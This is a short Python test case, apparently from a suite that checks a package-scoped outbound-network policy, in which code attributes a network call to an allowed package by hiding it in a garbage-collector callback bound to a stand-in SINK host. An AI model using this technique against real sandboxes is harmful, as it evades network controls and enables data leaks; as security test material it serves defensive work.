# class: only_for
# rule: outbound_connectivity
# success: the garbage collector calls a bound callback while the allowed package is running
# proof: sink
# needs: packages
# policy: only_for.yaml
# when: import
# open: a bound call has no frame that shows who bound it
import functools
import gc

import stripe
import urllib3
from attack import SINK, prepare


@prepare
def collector():
    stripe.hooks.append(gc.collect)
    gc.callbacks.append(functools.partial(urllib3.dial, SINK))
